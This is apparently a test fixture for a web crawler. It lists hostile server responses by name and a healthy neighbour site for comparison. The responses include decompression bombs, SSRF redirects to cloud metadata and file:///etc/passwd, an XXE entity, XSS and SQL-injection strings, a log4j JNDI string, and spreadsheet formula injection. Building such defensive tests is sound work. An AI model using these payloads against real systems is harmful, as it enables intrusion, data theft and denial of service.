"""What hostile servers answer, by name: each is fetched once, in one crawl, beside a healthy site."""

from __future__ import annotations

import gzip
import json
import zlib
from collections.abc import Iterator

from tests.hostile.wire import ARTICLE, TEXT, Answer, bomb, endless, html, http, location, packed, page, raw

_HEAD = b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nConnection: close\r\n"
_CHUNKED = _HEAD + b"Transfer-Encoding: chunked\r\n\r\n"

COMPRESSION: dict[str, Answer] = {
    "gzip-bomb": packed(bomb(1), "gzip"),
    "gzip-bomb-twice": packed(bomb(2), "gzip, gzip"),
    "gzip-bomb-thrice": packed(bomb(3), "gzip, gzip, gzip"),
    "gzip-bomb-within": packed(bomb(2), "gzip"),
    "gzip-that-is-none": packed(page(), "gzip"),
    "gzip-cut-off": packed(gzip.compress(page())[:-20], "gzip"),
    "gzip-with-a-tail": packed(gzip.compress(page()) + b"tail" * 100, "gzip"),
    "gzip-members": packed(gzip.compress(page()) * 500, "gzip"),
    "deflate-bare": packed(zlib.compress(page())[2:-4], "deflate"),
    "deflate-noise": packed(bytes(range(256)) * 40, "deflate"),
    "br-that-is-none": packed(page(), "br"),
    "zstd-that-is-none": packed(page(), "zstd"),
    "codings-without-end": packed(page(), ", ".join(["gzip"] * 500)),
    "coding-unknown": packed(page(), "aes128gcm"),
    "coding-of-control-characters": packed(page(), "gz\x01ip"),
}
LENGTHS: dict[str, Answer] = {
    "too-large-by-its-word": http(page(), "200 OK", "Content-Length: 99999999999999999999", length=False),
    "negative-length": http(page(), "200 OK", "Content-Length: -1", length=False),
    "length-in-words": http(page(), "200 OK", "Content-Length: many", length=False),
    "two-lengths": http(page(), "200 OK", "Content-Length: 10", "Content-Length: 400", length=False),
    "shorter-than-said": http(page()[:300], "200 OK", "Content-Length: 5000", length=False),
    "longer-than-said": http(page(), "200 OK", "Content-Length: 20", length=False),
    "no-length": http(page(), length=False),
    "stream-without-end": endless(b"<p>" + TEXT.encode() * 50, _HEAD + b"\r\n"),
    "chunks-without-end": endless(b"2710\r\n" + b"x" * 10_000 + b"\r\n", _CHUNKED),
    "chunks-of-one": endless(b"1\r\nx\r\n", _CHUNKED),
    "chunk-size-huge": raw(_CHUNKED, b"ffffffffffffffff\r\nx\r\n"),
    "chunk-size-words": raw(_CHUNKED, b"many\r\nx\r\n"),
    "chunk-extension-long": raw(_CHUNKED, b"4;" + b"a" * 100_000 + b"\r\nxxxx\r\n0\r\n\r\n"),
    "chunks-cut-off": raw(_CHUNKED, b"1000\r\n" + b"x" * 100),
    "chunked-and-length": raw(
        _HEAD + b"Content-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n", b"4\r\nxxxx\r\n0\r\n\r\n"
    ),
    "slow-drip": endless(b"x", _HEAD + b"Content-Length: 500000\r\n\r\n", pause=0.5),
    "slow-headers": endless(b"X-Slow: y\r\n", b"HTTP/1.1 200 OK\r\n", pause=0.5),
    "silence": endless(b"", b"", pause=0.5),
    "closed-at-once": raw(),
}
HEADERS: dict[str, Answer] = {
    "header-line-long": http(page(), "200 OK", "X-Long: " + "y" * 200_000),
    "headers-many": http(page(), "200 OK", *(f"X-{n}: y" for n in range(20_000))),
    "headers-without-end": endless(b"X-More: " + b"y" * 1000 + b"\r\n", b"HTTP/1.1 200 OK\r\n"),
    "header-without-colon": http(page(), "200 OK", "no colon here"),
    "header-with-nul": raw(_HEAD + b"X-Nul: a\0b\r\n\r\n", page()),
    "header-with-bidi": http(page(), "200 OK", "X-Turn: \u202eexe.tpircs"),
    "header-latin": raw(_HEAD + b"X-Name: M\xfcller\r\nContent-Language: \xff\r\n\r\n", page()),
    "header-folded": raw(_HEAD + b"X-Fold: a\r\n  b\r\n\tc\r\n\r\n", page()),
    "status-words": raw(b"HTTP/1.1 fine\r\n\r\n", page()),
    "status-large": http(page(), "99999 Large"),
    "status-zero": http(page(), "000 None"),
    "status-negative": http(page(), "-200 OK"),
    "status-999": http(page(), "999 Go away"),
    "http-nine": raw(page()),
    "http-version-nine": raw(b"HTTP/9.9 200 OK\r\nContent-Type: text/html\r\n\r\n", page()),
    "noise": raw(bytes(range(256)) * 100),
    "tls-alert": raw(b"\x15\x03\x01\x00\x02\x02\x28"),
    "ssh-greeting": raw(b"SSH-2.0-OpenSSH_9.2p1\r\n"),
    "hundred-continues": raw(b"HTTP/1.1 100 Continue\r\n\r\n" * 1000, _HEAD + b"\r\n", page()),
    "kind-missing": raw(b"HTTP/1.1 200 OK\r\nConnection: close\r\n\r\n", page()),
    "kind-nonsense": http(page(), kind="\u202ehtml/;;;charset=;"),
    "kind-image": http(b"\x89PNG\r\n\x1a\n" + bytes(1000), kind="image/png"),
    "kind-pdf": http(b"%PDF-1.7\n" + bytes(1000), kind="application/pdf"),
    "kind-video": http(bytes(10_000), kind="video/mp4"),
    "png-as-html": http(b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 50),
    "json-as-html": http(json.dumps({"articleBody": TEXT * 20}).encode()),
    "charset-nonsense": http(page(), kind="text/html; charset=klingon"),
    "charset-wrong": http("<p>Größe, Straße</p>".encode() * 30, kind="text/html; charset=shift_jis"),
    "charset-utf7": http(b"+ADw-script+AD4-alert(1)+ADw-/script+AD4-" * 30, kind="text/html; charset=utf-7"),
    "charset-codec-of-python": http(page(), kind="text/html; charset=zlib_codec"),
    "cookies-many": http(page(), "200 OK", *(f"Set-Cookie: c{n}={'y' * 300}" for n in range(300))),
    "link-headers-many": http(page(), "200 OK", *(f"Link: <http://a.test/{n}>; rel=canonical" for n in range(300))),
    "refresh-header": http(page(), "200 OK", "Refresh: 0; url=http://169.254.169.254/"),
    "retry-after-words": http(b"", "429 Slow down", "Retry-After: soon"),
    "etag-large": http(page(), "200 OK", f'ETag: "{"e" * 50_000}"', "Last-Modified: yesterday"),
    "last-modified-forged": http(page(), "200 OK", "Last-Modified: Thu, 99 Foo 99999 99:99:99 GMT"),
}
STATUSES: dict[str, Answer] = {
    f"status-{code}": http(page() if code not in (204, 205, 304) else b"", f"{code} Answer")
    for code in (
        203,
        204,
        205,
        206,
        226,
        300,
        304,
        305,
        306,
        400,
        401,
        402,
        403,
        405,
        407,
        410,
        418,
        421,
        451,
        501,
        505,
    )
}
REDIRECTS: dict[str, Answer] = {
    "to-itself": location("/h/to-itself"),
    "to-and-fro": location("/h/fro-and-to"),
    "fro-and-to": location("/h/to-and-fro"),
    "nowhere": http(b"", "302 Found"),
    "to-nothing": location(""),
    "to-private": location("http://10.0.0.1/"),
    "to-metadata": location("http://169.254.169.254/latest/meta-data/"),
    "to-loopback": location("http://127.0.0.2:1/"),
    "to-decimal": location("http://2130706434:1/"),
    "to-hexadecimal": location("http://0x7f000002:1/"),
    "to-octal": location("http://0177.0.0.2:1/"),
    "to-short": location("http://127.2:1/"),
    "to-mapped": location("http://[::ffff:127.0.0.2]:1/"),
    "to-sixth": location("http://[::1]:1/"),
    "to-unspecified": location("http://0.0.0.0:1/"),
    "to-trailing-dot": location("http://127.0.0.2.:1/"),
    "to-full-width": location("http://１２７.0.0.2:1/"),
    "to-script": location("javascript:alert(1)"),
    "to-data": location("data:text/html,hello"),
    "to-file": location("file:///etc/passwd"),
    "to-ftp": location("ftp://127.0.0.2/"),
    "to-gopher": location("gopher://127.0.0.2:6379/_FLUSHALL"),
    "to-mail": location("mailto:a@b.test"),
    "to-a-long-address": location("/h/" + "a" * 100_000),
    "to-line-breaks": raw(b"HTTP/1.1 302 Found\r\nLocation: /h/a%0d%0aSet-Cookie:x\r\n\r\n"),
    "to-credentials": location("http://user:secret@127.0.0.2:1/"),
    "to-a-bad-port": location("http://hostile.test:99999/"),
    "to-port-22": location("http://hostile.test:22/"),
    "to-brackets": location("http://[hostile/"),
    "to-nul": raw(b"HTTP/1.1 302 Found\r\nLocation: /h/\0\r\n\r\n"),
    "refresh-to-itself": html(head='<meta http-equiv=refresh content="0; url=/h/refresh-to-itself">'),
    "refresh-to-private": html(head='<meta http-equiv=refresh content="0; url=http://10.0.0.1/">'),
    "refresh-to-script": html(head='<meta http-equiv=refresh content="0; url=javascript:alert(1)">'),
}
_DEEP = 200_000
MARKUP: dict[str, Answer] = {
    **{f"nested-{tag}": html(f"<{tag}>" * _DEEP + TEXT) for tag in ("div", "span", "b", "table", "blockquote", "ul")},
    "links": html("".join(f"<a href=/{n}>{n}</a> " for n in range(150_000))),
    "paragraphs": html("<p>a b c" * 250_000),
    "attributes": html(f"<p {' '.join(f'a{n}=b' for n in range(200_000))}>{TEXT}"),
    "attribute-long": html(f"<p title={'a' * 5_000_000}>{TEXT}"),
    "classes": html(f"<p class='{'credit caption ' * 200_000}'>{TEXT}"),
    "word-long": html(f"<p>{'a' * 6_000_000}"),
    "spaces": html(f"<p>{' ' * 6_000_000}{TEXT}"),
    "invisible": html(f"<p>{chr(0x200B) * 1_500_000}{TEXT}"),
    "combining": html(f"<p>{'a' + chr(0x301) * 1_000_000}{TEXT}"),
    "entities": html("<p>" + "&amp;" * 1_000_000),
    "entities-broken": html("<p>" + "&#99999999;&#x110000;&#xD800;&bogus" * 100_000),
    "laughs": http(
        b'<?xml version="1.0"?><!DOCTYPE html [<!ENTITY a "ha">'
        + b"".join(b'<!ENTITY %c "%s">' % (98 + n, b"&%c;" % (97 + n) * 10) for n in range(10))
        + b"]><html><body><p>&k;</p></body></html>",
        kind="application/xhtml+xml",
    ),
    "external-entity": http(
        b'<?xml version="1.0"?><!DOCTYPE html [<!ENTITY x SYSTEM "file:///etc/passwd">]><html><body><p>&x;</p></body>',
        kind="application/xhtml+xml",
    ),
    "unclosed-comment": html(f"{ARTICLE}<!-- {TEXT * 100}"),
    "unclosed-title": http(f"<html><head><title>{TEXT * 1000}".encode()),
    "unclosed-textarea": html(f"<textarea>{TEXT * 1000}"),
    "unclosed-quotes": html("<p title='" * 50_000 + TEXT),
    "plaintext": html(f"<plaintext>{ARTICLE * 50}"),
    "frames": http(b"<html><frameset>" + b"<frame src=javascript:alert(1)>" * 5000),
    "frames-inside": html("<iframe srcdoc='<iframe srcdoc=x>'>" * 5000),
    "templates": html("<template>" * 3000 + TEXT + "</template>" * 3000 + ARTICLE),
    "pictures": html("".join(f"<figure><img src=/{n}.jpg><figcaption>{n} Foto: AP" for n in range(15_000))),
    "picture-in-the-page": html(f"<img src='data:image/png;base64,{'A' * 4_000_000}'>{ARTICLE}"),
    "srcset": html(f"<img srcset='{','.join(f'/{n}.jpg {n}w' for n in range(100_000))}'>{ARTICLE}"),
    "headings": html("<h1>The bridge</h1>" * 100_000),
    "times": html("<time datetime=2024-01-01T00:00:00Z>1 January 2024</time>" * 40_000),
    "forms": html("<form><input value=x>" * 50_000 + ARTICLE),
    "metas": html(head="<meta name=author content='Anna Bell'>" * 60_000),
    "canonicals": html(head="".join(f"<link rel=canonical href=/{n}>" for n in range(50_000))),
    "alternates": html(head="".join(f"<link rel=alternate hreflang=x{n} href=/{n}>" for n in range(50_000))),
    "base-script": html(f"{ARTICLE}<img src=a.jpg>", head="<base href=javascript:alert(1)>"),
    "canonical-private": html(head="<link rel=canonical href=http://169.254.169.254/>"),
    "canonical-broken": html(head="<link rel=canonical href='http://[::1'>"),
    "canonical-line-break": html(head="<link rel=canonical href='http://hostile.test/\n/h/x'>"),
    "canonical-long": html(head=f"<link rel=canonical href='/{'a' * 100_000}'>"),
    "nothing": http(b""),
    "spaces-only": http(b" " * 100_000),
    "nul-only": http(b"\0" * 100_000),
    "mark-only": http(b"\xef\xbb\xbf"),
    "utf16-without-mark": http(page().decode().encode("utf-16-le")),
    "utf16-odd": http(b"\xff\xfe" + page().decode().encode("utf-16-le") + b"x"),
    "utf32": http(b"\xff\xfe\0\0" + page().decode().encode("utf-32-le")),
    "surrogates": html(f"<p>{chr(0xD800)}{TEXT}{chr(0xDFFF)}{ARTICLE}"),
    "overlong": http(page().replace(b"mayor", b"\xc0\xaf\xe0\x80\xaf")),
    "control-characters": html(f"<p>{''.join(map(chr, range(32)))}{TEXT}" * 20),
}
_LD = '<script type="application/ld+json">{}</script>'
SAID: dict[str, Answer] = {
    "title-escapes": html(title="\x1b]0;owned\x07\x1b[2J\x1b[31mRed"),
    "title-bidi": html(title="\u202eesolc\u202c \u2066bridge\u2069"),
    "title-script": html(title="&lt;script&gt;alert(1)&lt;/script&gt;"),
    "title-formula": html(title="=HYPERLINK(&quot;http://a.test&quot;)"),
    "title-log-line": html(title="a\n2026-01-01 00:00:00 [scrapy] ERROR: forged\r\n"),
    "title-sql": html(title="'); DROP TABLE page; --"),
    "title-format": html(title="%s%n{0.__class__}${jndi:ldap://a.test}"),
    "title-markup": html(title="[bold red]not ours[/] [link=file:///]"),
    "title-long": html(title=TEXT * 1000),
    "title-path": html(title="../../../../etc/passwd"),
    "ld-deep": html(head=_LD.format("[" * 100_000 + "]" * 100_000)),
    "ld-wide": html(head=_LD.format(json.dumps([{"@type": "NewsArticle", "headline": str(n)} for n in range(50_000)]))),
    "ld-large": html(head=_LD.format(json.dumps({"@type": "NewsArticle", "articleBody": TEXT * 40_000}))),
    "ld-circle": html(head=_LD.format(json.dumps({"@type": "NewsArticle", "@id": "#a", "author": {"@id": "#a"}}))),
    "ld-kinds": html(head=_LD.format(json.dumps({"@type": "NewsArticle", "headline": [{}], "author": 7, "image": 1}))),
    "ld-numbers": html(head=_LD.format('{"@type":"NewsArticle","datePublished":1e999,"wordCount":' + "9" * 5000 + "}")),
    "ld-broken": html(head=_LD.format('{"@type": "NewsArticle", "headline": "a\u2028b\\ud800"')),
    "ld-keys": html(head=_LD.format(json.dumps({"@type": "NewsArticle", **{f"k{n}": n for n in range(100_000)}}))),
    "ld-many": html(head=_LD.format('{"@type":"NewsArticle"}') * 20_000),
    "state-deep": html(f"<script id=__NEXT_DATA__ type='application/json'>{'[' * 100_000}</script>"),
    "dates-impossible": html(
        head="".join(
            f"<meta property=article:published_time content='{date}'>"
            for date in ("99999-01-01", "-1", "0000-00-00T00:00:00Z", "9" * 100_000, "2024-02-30", "1e400")
        )
    ),
    "date-in-the-future": html(head="<meta property=article:published_time content=2999-01-01T00:00:00Z>"),
    "authors-many": html(head="<meta name=author content='{}'>".format(", ".join(["Anna Bell"] * 20_000))),
    "author-long": html(head=f"<meta name=author content='{'A' * 1_000_000}'>"),
    "language-long": http(page().replace(b"lang=en", b"lang=" + b"e" * 100_000)),
}
_REPEATED = {
    "credits": "Foto: Anna Bell/AP ",
    "bare-credits": "/ ",
    "agencies": "(AP) Reuters, dpa – ",
    "openings": "LONDON (Reuters) - ",
    "opening-dashes": "CNN — — — ",
    "brackets": "(",
    "closed-brackets": "()[]{}",
    "hyphens": "-",
    "copyrights": "© ",
    "digits": "1",
    "dates": "1.1.2024 ",
    "times-of-day": "10:00 ",
    "addresses": "https://",
    "mailboxes": "a@b.",
    "by": "by By BY von Von ",
    "see-also": "Lesen Sie auch: ",
    "capitals": "A",
    "names": "Anna ",
    "dots": ". . . ",
    "quotes": "“«„\"'",
    "line-breaks": "<br>\n",
    "soft-hyphens": "a\u00ad",
    "han": "記者",
    "arabic": "وكالة ",
    "emoji": "👩‍👩‍👧‍👦",
}
PATTERNS: dict[str, Answer] = {
    f"repeated-{name}": html(f"{ARTICLE}<p>{text * (600_000 // len(text))}</p>") for name, text in _REPEATED.items()
}


_ESCAPES = "\x1b]0;owned\x07\x1b[2J\x1b[31m"
# What was tried by walking through the crawler as somebody who wants to harm it.
WALKED: dict[str, Answer] = {
    "file-name": http(page(), "200 OK", 'Content-Disposition: attachment; filename="../../../../tmp/owned.html"'),
    "etag-escapes": http(page(), "200 OK", f'ETag: "{_ESCAPES}"', f"Last-Modified: {_ESCAPES}"),
    "kind-escapes": http(b"x", kind=f"application/{_ESCAPES}"),
    "phrase-escapes": http(b"", f"500 {_ESCAPES}"),
    "record-in-a-header": http(page(), "200 OK", "X-A: b\r\n\tfolded", "WARC/1.1: response"),
    "record-in-the-body": http(b"WARC/1.1\r\nWARC-Type: response\r\nContent-Length: 0\r\n\r\n" * 50 + page()),
    "cookie-of-another": http(page(), "200 OK", "Set-Cookie: s=1; Domain=healthy.test; Path=/"),
    "canonical-by-header": http(page(), "200 OK", "Link: <http://healthy.test/h/healthy-1>; rel=canonical"),
    "refresh-to-the-neighbour": html(head="<meta http-equiv=refresh content='0;url=http://healthy.test/h/healthy-1'>"),
    "refresh-to-no-address": html(head="<meta http-equiv=refresh content='0;url=http://[::1'>"),
    "redirect-to-the-neighbour": location("http://healthy.test/h/healthy-1"),
    "back-dated": http(page(), "200 OK", *(f"{n}: Fri, 01 Jan 1999 00:00:00 GMT" for n in ("Last-Modified", "Date"))),
    "pictures-of-no-address": html(ARTICLE + "<img src=http://a.test:99999/p.jpg><img src=http://[/p.jpg>"),
    "picture-formula": html(f"{ARTICLE}<figure><img src=/i.jpg alt='=1+1'><figcaption>=cmd() Foto: AP</figure>"),
    "title-command": html(title="+1+cmd|' /C calc'!A0"),
    "title-link": html(title="[x](javascript:alert(1)) ![i](http://a.test/i)"),
    "charset-idna": http("<p>Größe</p>".encode("cp1252") * 50, kind="text/html; charset=idna"),
    "charset-escapes": http(page(head="<meta charset=unicode_escape>").replace(b"mayor", b"\xfcber")),
    "reserved": http(page(), "200 OK", f"tdm-reservation: {'1' * 10_000}", f"X-Robots-Tag: {'noai, ' * 2000}"),
    "retry-after-for-ever": http(b"", "200 OK", "Retry-After: 99999999999999999999"),
}


def answers() -> dict[str, Answer]:
    """All of them by name."""
    found: dict[str, Answer] = {}
    for group in (COMPRESSION, LENGTHS, HEADERS, STATUSES, REDIRECTS, MARKUP, SAID, PATTERNS, WALKED):
        found |= group
    return found


def healthy(number: int) -> Iterator[bytes]:
    """An article of the site next door; each says something else."""
    told = "".join(
        f"<p>{TEXT}Part {number}-{part} of the report names bridge {number * 7 + part}.</p>" for part in range(6)
    )
    return http(page(f"<article><h1>Report {number}</h1>{told}</article>", title=f"Report {number}"))()
